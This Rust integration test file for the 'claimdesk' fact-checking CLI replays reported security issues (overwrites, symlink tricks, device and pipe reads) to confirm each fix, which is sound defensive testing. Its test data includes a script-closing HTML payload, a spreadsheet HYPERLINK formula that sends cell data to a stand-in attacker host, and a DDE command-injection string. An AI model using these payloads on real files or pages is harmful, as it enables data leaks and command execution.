//! The attacks of issue 15 ("overwrites, a symlink, `</script>`, races and unbounded
//! inputs"), replayed through the real binary. Each test failed before its fix.
//! Unit tests beside the code cover the same ground from the library's side
//! (`store::atomic`, `store::lock`, `store::tests`, `limited_read`, `export::csv`,
//! `export::claimreview`); `tests/crash_safety.rs` kills saves.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // Test code: a failure should panic.
#![cfg(unix)]

use claimdesk::store::{LockUser, SessionLock, backup_path, load_session};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const ARTICLE: &str = "Budget story\n\nThe minister said unemployment fell by 40 percent last year.\n\nOfficials said the rail line will cost 2 billion.\n";

/// Exit code, stdout and stderr of the binary, run with empty config and data
/// folders in `dir`; killed (and the test failed) if it runs longer than `limit`.
fn run_for(dir: &Path, args: &[&str], limit: Duration) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_claimdesk"))
        .args(args)
        .env("CLAIMDESK_CONFIG_DIR", dir.join("config"))
        .env("CLAIMDESK_DATA_DIR", dir.join("data"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("`claimdesk {}` still ran after {limit:?}", args.join(" "));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    run_for(dir, args, Duration::from_secs(60))
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A session with one claim at `dir/name`, made by the CLI.
fn new_session(dir: &Path, name: &str) -> PathBuf {
    let article = dir.join("article.txt");
    std::fs::write(&article, ARTICLE).unwrap();
    let session = dir.join(name);
    let (code, _, err) = run(
        dir,
        &[
            "new",
            s(&article),
            "-o",
            s(&session),
            "--accept-suggestions",
            "--min-score",
            "0",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(!load_session(&session).unwrap().0.session.claims.is_empty());
    session
}

fn one_line_error(code: i32, err: &str) {
    assert_eq!(code, 1, "{err}");
    assert_eq!(err.lines().count(), 1, "one line: {err}");
}

/// Item 1: `export s.ron --format csv -o s.ron` replaced the session with CSV.
#[test]
fn export_never_replaces_a_session_and_replaces_other_files_only_with_force() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let before = std::fs::read(&session).unwrap();
    let other = new_session(d, "other.ron");
    let other_before = std::fs::read(&other).unwrap();
    for force in [false, true] {
        let mut args = vec!["export", s(&session), "--format", "csv", "-o", s(&session)];
        if force {
            args.push("--force");
        }
        let (code, _, err) = run(d, &args);
        one_line_error(code, &err);
        assert!(err.contains("session being exported"), "{err}");
        assert_eq!(std::fs::read(&session).unwrap(), before);
        assert!(!backup_path(&session).exists());

        args[5] = s(&other);
        let (code, _, err) = run(d, &args);
        one_line_error(code, &err);
        assert!(err.contains("is a Claimdesk session"), "{err}");
        assert_eq!(std::fs::read(&other).unwrap(), other_before);
    }
    // Under another name (a link), it is still the session.
    let link = d.join("export.csv");
    std::os::unix::fs::symlink("s.ron", &link).unwrap();
    let (code, _, err) = run(
        d,
        &[
            "export",
            s(&session),
            "--format",
            "csv",
            "-o",
            s(&link),
            "--force",
        ],
    );
    one_line_error(code, &err);
    assert_eq!(std::fs::read(&session).unwrap(), before);
    std::fs::remove_file(&link).unwrap();

    // Any other existing file: only with --force.
    let csv = d.join("claims.csv");
    std::fs::write(&csv, "my spreadsheet").unwrap();
    let args = ["export", s(&session), "--format", "csv", "-o", s(&csv)];
    let (code, _, err) = run(d, &args);
    one_line_error(code, &err);
    assert!(err.contains("exists") && err.contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(&csv).unwrap(), "my spreadsheet");
    let (code, _, err) = run(d, &[&args[..], &["--force"]].concat());
    assert_eq!(code, 0, "{err}");
    assert!(
        std::fs::read_to_string(&csv)
            .unwrap()
            .starts_with("id,status")
    );
    assert!(!backup_path(&csv).exists(), "exports keep no .bak");

    // A path a window has locked (say, a "save as" target) is left alone.
    let target = d.join("new.csv");
    let window = SessionLock::acquire(&target).unwrap();
    let (code, _, err) = run(
        d,
        &["export", s(&session), "--format", "csv", "-o", s(&target)],
    );
    one_line_error(code, &err);
    assert!(err.contains("another Claimdesk window"), "{err}");
    assert!(!target.exists());
    drop(window);
    let (code, _, err) = run(
        d,
        &["export", s(&session), "--format", "csv", "-o", s(&target)],
    );
    assert_eq!(code, 0, "{err}");
}

/// Item 2: `new art.txt -o w.ron` twice lost the first session's edits.
#[test]
fn new_refuses_an_existing_session_unless_forced_and_always_honours_the_lock() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "w.ron");
    let (code, _, err) = run(
        d,
        &["edit", s(&session), "--claim", "1", "--note", "my research"],
    );
    assert_eq!(code, 0, "{err}");
    let edited = std::fs::read(&session).unwrap();
    let article = d.join("article.txt");
    let args = ["new", s(&article), "-o", s(&session)];
    let (code, _, err) = run(d, &args);
    one_line_error(code, &err);
    assert!(err.contains("exists") && err.contains("--force"), "{err}");
    assert_eq!(std::fs::read(&session).unwrap(), edited);

    // Forced, but the session is open in a window: still refused.
    let window = SessionLock::acquire(&session).unwrap();
    let (code, _, err) = run(d, &[&args[..], &["--force"]].concat());
    one_line_error(code, &err);
    assert!(
        err.contains("already open in another Claimdesk window"),
        "{err}"
    );
    assert_eq!(std::fs::read(&session).unwrap(), edited);
    drop(window);

    // Forced with nobody holding it: replaced, the edits kept in the backup.
    let (code, _, err) = run(d, &[&args[..], &["--force"]].concat());
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::read(backup_path(&session)).unwrap(), edited);
    assert!(load_session(&session).unwrap().0.session.claims.is_empty());
}

/// Item 4: `edit link.ron` turned the link into a regular file and left the target
/// without the edit.
#[test]
fn edit_through_a_symlink_updates_its_target() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::create_dir(d.join("real")).unwrap();
    let real = new_session(&d.join("real"), "c.ron");
    let link = d.join("link.ron");
    std::os::unix::fs::symlink("real/c.ron", &link).unwrap();
    let (code, _, err) = run(
        d,
        &["edit", s(&link), "--claim", "1", "--note", "via the link"],
    );
    assert_eq!(code, 0, "{err}");
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let claim = &load_session(&real).unwrap().0.session.claims[0];
    assert_eq!(claim.note, "via the link");
    assert!(backup_path(&real).exists());
    assert!(std::fs::symlink_metadata(backup_path(&link)).is_err());
    // A window that opened the real file blocks an edit through the link.
    let _window = SessionLock::acquire(&real).unwrap();
    let (code, _, err) = run(d, &["edit", s(&link), "--claim", "1", "--note", "x"]);
    one_line_error(code, &err);
}

/// Item 6: a lock symlink planted in a repository made `edit` and `reanchor`
/// write "process N" into the file it pointed at.
#[test]
fn a_planted_lock_symlink_is_refused_and_its_target_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let repo = d.join("repo");
    std::fs::create_dir(&repo).unwrap();
    let session = new_session(&repo, "s.ron");
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    std::os::unix::fs::symlink("../victim.txt", repo.join(".s.ron.lock")).unwrap();
    let before = std::fs::read(&session).unwrap();
    let new_article = d.join("new.txt");
    std::fs::write(&new_article, ARTICLE.replace("2 billion", "3 billion")).unwrap();
    for args in [
        vec!["edit", s(&session), "--claim", "1", "--note", "x"],
        vec!["reanchor", s(&session), s(&new_article)],
    ] {
        let (code, _, err) = run(d, &args);
        one_line_error(code, &err);
        assert!(
            err.contains("symbolic link") && err.contains(".s.ron.lock"),
            "{err}"
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
        assert_eq!(std::fs::read(&session).unwrap(), before);
    }
}

/// Item 7: a claim of `</script><script>…` ran in a page embedding the export.
#[test]
fn json_ld_exports_cannot_close_a_script_element() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let payload = "</script><script>document.title='x'</script>";
    let (code, _, err) = run(
        d,
        &[
            "edit",
            s(&session),
            "--claim",
            "1",
            "--text",
            payload,
            "--status",
            "false",
        ],
    );
    assert_eq!(code, 0, "{err}");
    for format in ["claimreview", "webannotation"] {
        let (code, out, err) = run(d, &["export", s(&session), "--format", format]);
        assert_eq!(code, 0, "{err}");
        assert!(!out.contains(['<', '>', '&']), "{format}: {out}");
        assert!(out.contains("\\u003c/script\\u003e"), "{format}");
        let json: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert!(json.to_string().contains(payload), "{format}");
    }
}

/// Item 8: `=HYPERLINK(…)` and `+cmd|…` were written raw into CSV.
#[test]
fn csv_formulas_are_neutralised_unless_raw_csv() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let (code, _, err) = run(
        d,
        &[
            "edit",
            s(&session),
            "--claim",
            "1",
            "--text",
            formula,
            "--claimant",
            "+cmd|'/C calc'!A0",
        ],
    );
    assert_eq!(code, 0, "{err}");
    let cells = |csv: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        reader
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect()
    };
    let (code, out, err) = run(d, &["export", s(&session), "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    let row = cells(&out);
    assert_eq!(row[2], format!("'{formula}"));
    assert_eq!(row[6], "'+cmd|'/C calc'!A0");
    let (code, out, err) = run(d, &["export", s(&session), "--format", "csv", "--raw-csv"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(cells(&out)[2], formula);
    let (code, _, err) = run(d, &["export", s(&session), "--format", "html", "--raw-csv"]);
    one_line_error(code, &err);
    assert!(
        err.contains("--raw-csv applies only to --format csv"),
        "{err}"
    );
}

/// Item 10: `/dev/zero` was read until memory ran out (its size says 0 bytes), by
/// every command and through a `prefs.ron` link.
#[cfg(target_os = "linux")]
#[test]
fn devices_are_refused_by_every_command() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let out = d.join("out.ron");
    let quick = Duration::from_secs(20);
    for args in [
        vec!["show", "/dev/zero"],
        vec!["new", "/dev/zero", "-o", s(&out)],
        vec!["suggest", "/dev/zero"],
        vec!["reanchor", s(&session), "/dev/zero"],
        vec!["export", "/dev/zero", "--format", "csv"],
    ] {
        let (code, _, err) = run_for(d, &args, quick);
        one_line_error(code, &err);
        assert!(
            err.contains("/dev/zero") && err.contains("a device"),
            "{args:?}: {err}"
        );
    }
    std::fs::create_dir_all(d.join("config")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", d.join("config/prefs.ron")).unwrap();
    let (code, _, err) = run_for(d, &["export", s(&session), "--format", "csv"], quick);
    one_line_error(code, &err);
    assert!(
        err.contains("prefs.ron") && err.contains("a device"),
        "{err}"
    );
}

/// Item 10: a session that is a named pipe with no writer hung `show` forever; with
/// a writer it is read as before.
#[test]
fn a_named_pipe_is_read_when_written_and_given_up_on_when_silent() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let pipe = d.join("pipe.ron");
    if !Command::new("mkfifo")
        .arg(&pipe)
        .status()
        .is_ok_and(|s| s.success())
    {
        return;
    }
    let bytes = std::fs::read(&session).unwrap();
    let writer = {
        let pipe = pipe.clone();
        std::thread::spawn(move || std::fs::write(&pipe, bytes))
    };
    let (code, out, err) = run(d, &["show", s(&pipe)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("Budget story"), "{out}");
    writer.join().unwrap().unwrap();
    // Nobody writes: given up on after claimdesk's pipe timeout (30 s).
    let (code, _, err) = run_for(d, &["show", s(&pipe)], Duration::from_secs(90));
    one_line_error(code, &err);
    assert!(
        err.contains("pipe.ron") && err.contains("named pipe"),
        "{err}"
    );
}

/// The 250-character session name: the temporary and lock names added characters
/// past the file system's limit, so it could not be saved.
#[test]
fn a_250_character_session_name_saves_and_longer_ones_are_refused_in_words() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let name = format!("{}.ron", "a".repeat(246));
    assert_eq!(name.len(), 250);
    let session = new_session(d, &name);
    let (code, _, err) = run(d, &["edit", s(&session), "--claim", "1", "--note", "long"]);
    assert_eq!(code, 0, "{err}");
    assert!(backup_path(&session).exists());
    let too_long = d.join(format!("{}.ron", "b".repeat(248)));
    let (code, _, err) = run(d, &["new", s(&d.join("article.txt")), "-o", s(&too_long)]);
    one_line_error(code, &err);
    assert!(err.contains("at most 251 bytes"), "{err}");
}

/// Smaller: messages written for the app ("…window… Open it read-only", "your work
/// is still open") appeared in the command line.
#[test]
fn lock_messages_say_who_holds_the_session_in_command_line_words() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let edit = ["edit", s(&session), "--claim", "1", "--note", "x"];
    let command = SessionLock::acquire_as(&session, LockUser::Command("reanchor")).unwrap();
    let (code, _, err) = run(d, &edit);
    one_line_error(code, &err);
    assert!(
        err.contains("claimdesk reanchor") && err.contains("run this again"),
        "{err}"
    );
    assert!(
        !err.contains("window") && !err.contains("read-only"),
        "{err}"
    );
    drop(command);
    let window = SessionLock::acquire(&session).unwrap();
    let (code, _, err) = run(d, &edit);
    one_line_error(code, &err);
    assert!(err.contains("another Claimdesk window"), "{err}");
    assert!(!err.contains("read-only"), "{err}");
    drop(window);
}

/// Smaller: `suggest` errors did not name the file.
#[test]
fn suggest_errors_name_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let binary = d.join("photo.txt");
    std::fs::write(&binary, b"\0\x01\x02").unwrap();
    let empty = d.join("blank.txt");
    std::fs::write(&empty, " \n").unwrap();
    for path in [&binary, &empty] {
        let (code, _, err) = run(d, &["suggest", s(path)]);
        one_line_error(code, &err);
        assert!(
            err.contains(path.file_name().unwrap().to_str().unwrap()),
            "{err}"
        );
    }
}

/// Smaller: deep nesting leaked "try increasing `ron::Options::recursion_limit`
/// and using `serde_stacker`"; `format_version: 0` loaded without a word.
#[test]
fn show_explains_deep_nesting_and_warns_about_version_zero() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let text = std::fs::read_to_string(&session).unwrap();
    let deep = d.join("deep.ron");
    std::fs::write(
        &deep,
        text.replacen(
            "format_version: 2,",
            &format!("format_version: 2, extra: {}", "[".repeat(50_000)),
            1,
        ),
    )
    .unwrap();
    let (code, _, err) = run(d, &["show", s(&deep)]);
    one_line_error(code, &err);
    assert!(err.contains("nested more than 64 levels"), "{err}");
    assert!(
        !err.contains("serde_stacker") && !err.contains("recursion_limit"),
        "{err}"
    );
    let zero = d.join("zero.ron");
    std::fs::write(
        &zero,
        text.replacen("format_version: 2,", "format_version: 0,", 1),
    )
    .unwrap();
    let (code, out, err) = run(d, &["show", s(&zero)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.starts_with("Budget story"));
    assert!(
        err.contains("warning") && err.contains("format version 0"),
        "{err}"
    );
}

/// Smaller: `--text=` and `--add-source ""` were accepted.
#[test]
fn empty_text_and_source_url_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let session = new_session(d, "s.ron");
    let before = std::fs::read(&session).unwrap();
    for args in [
        vec!["edit", s(&session), "--claim", "1", "--text="],
        vec!["edit", s(&session), "--claim", "1", "--text", "  "],
        vec!["edit", s(&session), "--claim", "1", "--add-source", ""],
    ] {
        let (code, _, err) = run(d, &args);
        assert_ne!(code, 0, "{args:?}");
        assert!(err.contains("cannot be empty"), "{args:?}: {err}");
        assert_eq!(std::fs::read(&session).unwrap(), before);
    }
}
